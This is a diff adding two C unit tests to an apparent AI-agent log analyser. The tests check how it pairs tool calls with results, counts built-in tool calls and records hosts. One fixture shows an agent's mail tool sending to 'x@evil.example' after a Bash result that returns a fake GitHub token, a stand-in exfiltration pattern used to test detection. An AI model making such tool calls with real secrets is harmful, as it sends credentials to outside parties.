@@ -450,6 +450,58 @@ START_TEST(test_agentlog_caps)
 }
 END_TEST
 
+/* Requests answered are dropped from the table in flight: a log with more
+ * calls than it holds pairs every result. */
+START_TEST(test_agentlog_many_calls_paired)
+{
+	cairn_buf b = CAIRN_BUF_INIT;
+	cairn_agentlog_result *r;
+	size_t i;
+
+	for (i = 0; i < 70000; i++)
+		cairn_buf_addf(&b, "{\"jsonrpc\":\"2.0\",\"id\":%zu,\"method\":\"tools/call\",\"params\":{\"name\":\"t\"}}\n"
+			       "{\"jsonrpc\":\"2.0\",\"id\":%zu,\"result\":{\"content\":[]}}\n", i, i);
+	r = feed(CAIRN_AGENTLOG_JSONRPC, "many.ndjson", b.data, b.len);
+	ck_assert_uint_eq(r->stats.calls, 70000);
+	ck_assert_uint_eq(r->stats.results, 70000);
+	ck_assert_uint_eq(r->stats.unpaired_results, 0);
+	ck_assert_uint_eq(r->stats.dropped, 0);
+	cairn_agentlog_result_free(r);
+	cairn_buf_release(&b);
+}
+END_TEST
+
+/* Claude Code's own tools: counted, their results accounted for (not
+ * unpaired) without being read; MCP results among them still read. */
+START_TEST(test_agentlog_transcript_builtin)
+{
+	static const char log[] =
+		"{\"type\":\"assistant\",\"timestamp\":\"2026-03-02T08:00:00Z\",\"message\":{\"role\":\"assistant\",\"content\":["
+		"{\"type\":\"tool_use\",\"id\":\"b1\",\"name\":\"Bash\",\"input\":{\"command\":\"ls\"}},"
+		"{\"type\":\"tool_use\",\"id\":\"m1\",\"name\":\"mcp__mail__send\",\"input\":{\"to\":\"x@evil.example\"}}]}}\n"
+		"{\"type\":\"user\",\"timestamp\":\"2026-03-02T08:00:01Z\",\"message\":{\"role\":\"user\",\"content\":["
+		"{\"type\":\"tool_result\",\"tool_use_id\":\"b1\",\"content\":\"ghp_cairnTestFakeToken000000000000000000\"}]}}\n"
+		"{\"type\":\"user\",\"timestamp\":\"2026-03-02T08:00:02Z\",\"message\":{\"role\":\"user\",\"content\":["
+		"{\"type\":\"tool_result\",\"tool_use_id\":\"m1\",\"content\":\"sent, cc audit@mail.example\"}]}}\n"
+		"{\"type\":\"user\",\"timestamp\":\"2026-03-02T08:00:03Z\",\"message\":{\"role\":\"user\",\"content\":["
+		"{\"type\":\"tool_result\",\"tool_use_id\":\"zz\",\"content\":\"?\"}]}}\n";
+	cairn_agentlog_result *r = feed(CAIRN_AGENTLOG_TRANSCRIPT, "s.jsonl", log, strlen(log));
+	size_t i;
+	int res_host = 0;
+
+	ck_assert_uint_eq(r->stats.builtin_calls, 1);
+	ck_assert_uint_eq(r->stats.calls, 1);
+	ck_assert_uint_eq(r->stats.results, 1);
+	ck_assert_uint_eq(r->stats.unpaired_results, 1);   /* zz only */
+	ck_assert_uint_eq(r->secret_count, 0);             /* Bash's output is not read */
+	for (i = 0; i < r->host_count; i++)
+		if (!strcmp(r->hosts[i].host, "mail.example") && r->hosts[i].direction == CAIRN_AGENTLOG_RESULT)
+			res_host = 1;
+	ck_assert(res_host);
+	cairn_agentlog_result_free(r);
+}
+END_TEST
+
 START_TEST(test_agentlog_times)
 {
 	static const char log[] =
@@ -559,6 +611,8 @@ Suite *agentlog_suite(void)
 	tcase_add_test(tc, test_agentlog_hostile);
 	tcase_add_test(tc, test_agentlog_caps);
 	tcase_add_test(tc, test_agentlog_times);
+	tcase_add_test(tc, test_agentlog_many_calls_paired);
+	tcase_add_test(tc, test_agentlog_transcript_builtin);
 	tcase_add_test(tc, test_agentlog_discover);
 	suite_add_tcase(s, tc);
 	return s;
